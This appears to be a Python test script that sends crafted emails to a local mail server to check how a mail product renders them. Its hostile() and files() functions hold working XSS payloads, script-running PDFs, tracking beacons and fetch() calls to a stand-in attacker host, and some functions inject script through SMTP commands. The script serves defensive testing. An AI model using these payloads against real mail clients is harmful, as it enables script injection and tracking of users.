"""Sends the mail that the walk looks at. Usage: deliver.py WHAT [ARGUMENT...], with the doors' ports in the environment."""

import os
import smtplib
import socket
import ssl
import struct
import sys
import time
import zlib
from email.message import EmailMessage
from email.policy import SMTP

RELAY, SUBMISSION, SUBMISSIONS = (int(os.environ[f"PORT_{name}"]) for name in ("RELAY", "SUBMISSION", "SUBMISSIONS"))
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE


def picture():
    """A small PNG."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    def pixel(x, y):
        return (138, 75, 18) if (x // 10 + y // 10) % 2 else (246, 234, 210)

    rows = b"".join(b"\0" + b"".join(bytes(pixel(x, y)) for x in range(120)) for y in range(40))
    size = struct.pack(">IIBBBBB", 120, 40, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def letter(subject, sender, to, text, html=None):
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    message["Subject"] = subject
    message.set_content(text)
    if html:
        message.add_alternative(html, subtype="html")
    return message


def relay(messages, hello="ci.build.example"):
    with smtplib.SMTP("localhost", RELAY, local_hostname=hello, timeout=20) as client:
        for message in messages:
            client.send_message(message)


def submit(message, recipients=None, reverse_path=None, user="alice"):
    with smtplib.SMTP("localhost", SUBMISSION, local_hostname="shop.example", timeout=20) as client:
        client.starttls(context=context)
        client.login(user, "secret")
        client.send_message(message, from_addr=reverse_path, to_addrs=recipients)


def many(count):
    relay(
        letter(f"Pipeline {number} passed on main", "CI <ci@build.example>", "Team <team@example.org>", f"Pipeline {number}.\n")
        for number in range(int(count))
    )


def callers(count):
    """Sessions, one after the other."""
    for _ in range(int(count)):
        with smtplib.SMTP("localhost", RELAY, local_hostname="caller.example", timeout=20):
            pass


def plain(subject):
    relay([letter(subject, "Carol <carol@example.org>", "bob@example.net", "Read https://example.org/a?b=c.\n")])


def receipt():
    html = """<html><head><style>body{margin:0;background:#f3efe7}.c{max-width:600px;margin:24px auto;background:#fff;
border-radius:8px;padding:28px;font:16px/1.5 Georgia,serif;color:#222}td{padding:8px 0;border-bottom:1px solid #eee}
h1{font-size:24px}.b{background:#8a4b12;color:#fff;padding:10px 18px;border-radius:6px;text-decoration:none}</style></head>
<body><div class=c><img id=logo src="cid:logo@northwind" alt="Northwind"><h1>Thank you, Alice</h1>
<p>Your order <b>20817</b> is on its way.</p><table width=100%><tr><td>Field notebook, squared<td align=right>12.40 EUR
<tr><td>Brass door knob<td align=right>58.00 EUR<tr><td><b>Total</b><td align=right><b>70.40 EUR</b></table>
<p><a class=b href="https://northwind.example/orders/20817">See your order</a></p>
<img src="TRAP/p.gif" width=1 height=1></div></body></html>""".replace("TRAP", EVIL)
    message = letter(
        "Your receipt from Northwind, order 20817",
        "Northwind Shop <orders@northwind.example>",
        "Alice Müller <alice@example.org>",
        "Order 20817\nTotal: 70.40 EUR\n",
        html,
    )
    message["Cc"] = "Books <books@example.org>"
    message.get_payload()[1].add_related(picture(), "image", "png", cid="<logo@northwind>")
    message.add_attachment(b"order;item;eur\n20817;knob;58.00\n", maintype="text", subtype="csv", filename="order-20817.csv")
    message.add_attachment(picture(), maintype="image", subtype="png", filename="label.png")
    submit(message, ["alice@example.org", "books@example.org", "audit@example.org"], "bounces+20817@northwind.example")


def document(action=""):
    """A PDF of one page, a link on it, and perhaps something to do when it is opened."""
    words = b"BT /F1 36 Tf 60 700 Td (Invoice 20817) Tj ET 1 0 0 rg 60 400 400 200 re f"
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{action}>>".encode(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/Annots[6 0 R]>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(words), words),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        f"<</Type/Annot/Subtype/Link/Rect[0 0 595 390]/A<</S/URI/URI({EVIL}/click)>>>>".encode(),
    ]
    text, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(text))
        text += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(text))
    return text + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + end


def files():
    message = letter("Four documents", "Dora <dora@example.org>", "bob@example.net", "Grüße, as attached.\n" + "ä" * 40 + "\n")
    opens = f"/OpenAction<</S/URI/URI({EVIL}/opened)/Next<</S/SubmitForm/F<</FS/URL/F({EVIL}/form)>>>>>>"
    script = f"/OpenAction<</S/JavaScript/JS(app.alert\\('hacked'\\);app.launchURL\\('{EVIL}/js'\\))>>"
    for name, action in (("invoice.pdf", ""), ("opens.pdf", opens), ("script.pdf", script)):
        message.add_attachment(document(action), maintype="application", subtype="pdf", filename=name)
    message.add_attachment(b"<html>", maintype="application", subtype="pdf", filename="page.pdf")
    relay([message])


def outward():
    """Links that would say where they stand, and keep a hand on the window that they open."""
    html = f"""<html><head><meta name=referrer content=unsafe-url></head><body>
<a id=plain href="{EVIL}/plain">a</a> <a id=opener rel=opener target=other referrerpolicy=unsafe-url href="{EVIL}/opener">b</a></body></html>"""
    relay([letter("Links that lead away", "Eve <eve@example.org>", "bob@example.net", "x", html)])


def odd():
    """Addresses that are easily misread, more of them and more attachments than one looks at, and a charset of old."""
    message = letter("Odd addresses", "Carol <carol@example.org>", '"john doe"@example.net', "x")
    message["Cc"] = '"sales@other.example" <b@example.net>'
    message.add_attachment("Grüße".encode("iso-8859-1"), maintype="text", subtype="plain", filename="old.txt", params={"charset": "iso-8859-1"})
    text = message.as_bytes(policy=SMTP)
    with smtplib.SMTP("localhost", RELAY, local_hostname="odd.example", timeout=20) as client:
        client.sendmail("carol@example.org", ['"john doe"@example.net', "b@example.net"], text)
    crowd = letter("A crowd", "Carol <carol@example.org>", ", ".join(f"member{number}@example.net" for number in range(300)), "x")
    for number in range(120):
        crowd.add_attachment(b"x", maintype="text", subtype="plain", filename=f"file-{number}.txt")
    with smtplib.SMTP("localhost", RELAY, local_hostname="odd.example", timeout=20) as client:
        client.send_message(crowd, to_addrs=[f"member{number}@example.net" for number in range(50)])


def code():
    submit(
        letter(
            "Your sign-in code is 481 920",
            "Acme Login <no-reply@acme.example>",
            "bob@example.net",
            "Your verification code is 481 920.\nIt is valid for 10 minutes.\n",
        )
    )


def say(port, *lines, wait=0.3):
    with socket.create_connection(("localhost", port), timeout=20) as client:
        said = client.recv(9999) if port != SUBMISSIONS else b""
        for line in lines:
            client.sendall(line)
            time.sleep(0.03)
            said += client.recv(9999) if port != SUBMISSIONS else b""
        time.sleep(wait)
    return said


def refused():
    say(SUBMISSION, b"EHLO printer.example\r\n", b"MAIL FROM:<scan@office.example>\r\n", b"QUIT\r\n")


def bare():
    dialogue = [b"EHLO lf.example\r\n", b"MAIL FROM:<a@example.org>\r\n", b"RCPT TO:<b@example.net>\r\n", b"DATA\r\n"]
    say(RELAY, *dialogue, b"Subject: x\r\n\r\nhi\nthere\r\n.\r\n", b"QUIT\r\n")


def busy():
    dialogue = [b"EHLO busy.example\r\n", b"MAIL FROM:<a@example.org>\r\n", b"RCPT TO:<b@example.net>\r\n", b"QUIT\r\n"]
    say(RELAY, *dialogue)


def lost():
    say(SUBMISSIONS, b"EHLO lost.example\r\n")


def slow(seconds):
    with socket.create_connection(("localhost", RELAY), timeout=20) as client:
        client.recv(999)
        client.sendall(b"EHLO slow.example\r\n")
        client.recv(9999)
        time.sleep(float(seconds))
        client.sendall(b"NOOP\r\n")
        client.recv(999)
        time.sleep(1)
        client.sendall(b"QUIT\r\n")


EVIL = os.environ.get("TRAP", "http://evil.example")
SCRIPT = f"<script>window.top.hacked=1;document.title='hacked';fetch('{EVIL}/s')</script>"
IMAGE = f"<img src=x onerror=\"window.top.hacked=1;fetch('{EVIL}/i')\">"


def hostile():
    html = f"""<!doctype html><html><head><meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<base href="{EVIL}/base/" target="_top"><link rel="stylesheet" href="{EVIL}/style.css">
<link rel=preconnect href="{EVIL}"><link rel=dns-prefetch href="//dns.evil.example"><link rel=preload as=image href="{EVIL}/p">
<link rel="icon" href="{EVIL}/icon"><style>@import url({EVIL}/import.css);@font-face{{font-family:x;src:url({EVIL}/font)}}
body{{background:url({EVIL}/background);font-family:x;position:fixed;inset:0}}</style>{SCRIPT}</head>
<body onload="window.top.hacked=1" background="{EVIL}/bg">{SCRIPT}{IMAGE}<img src="{EVIL}/pixel" srcset="{EVIL}/set 2x">
<svg onload="top.hacked=1"><script>top.hacked=1</script><image href="{EVIL}/svg"/><use href="{EVIL}/use#a"/></svg>
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe><object data="{EVIL}/object"></object>
<embed src="{EVIL}/embed"><video src="{EVIL}/video" poster="{EVIL}/poster" autoplay></video><audio src="{EVIL}/audio" autoplay></audio>
<form id=f action="{EVIL}/form" method=post><input name=a value=b autofocus onfocus="top.hacked=1"><button id=send>Send</button></form>
<a id=js href="javascript:top.hacked=1;fetch('{EVIL}/js')">javascript</a>
<a id=jsself target=_self href="javascript:top.hacked=1">javascript here</a>
<a id=top target=_top href="{EVIL}/top">top</a><a id=self target=_self ping="{EVIL}/ping" href="{EVIL}/self">self</a>
<a id=api target=_self href="/api/messages">api</a><input type=image src="{EVIL}/input"><math href="javascript:top.hacked=1">m</math>
<div><template shadowrootmode=open><img src="{EVIL}/shadow"></template></div><p id=last>the last words</p></body></html>"""
    message = letter(f"Hello {SCRIPT}{IMAGE}", f'"{IMAGE[:-1].replace(chr(34), "")}>" <eve@evil.example>', "bob@example.net", f"{SCRIPT}\njavascript:alert(1)\n{IMAGE}\n", html)
    message["X-Evil"] = SCRIPT + IMAGE
    message.add_attachment(f"<html>{SCRIPT}</html>".encode(), maintype="text", subtype="html", filename="<img src=x onerror=top.hacked=1>.html")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.hacked=1"><script>top.hacked=1</script><image href="{EVIL}/svg-file" width="9" height="9"/></svg>'
    message.add_attachment(svg.encode(), maintype="image", subtype="svg+xml", filename="evil.svg")
    name = "<script>top.hacked=1</script><img/src=x/onerror=top.hacked=1>"
    submit(message, user=name)
    say(RELAY, b"EHLO " + name.encode() + b"\r\n", b"MAIL FROM:<a@example.org>\r\n", b"QUIT\r\n")
    say(RELAY, b"HELO " + name.encode() + b"\r\n", name.encode() + b"\r\n", b"AUTH PLAIN " + name.encode() + b"\r\n", b"QUIT\r\n")


globals()[sys.argv[1]](*sys.argv[2:])
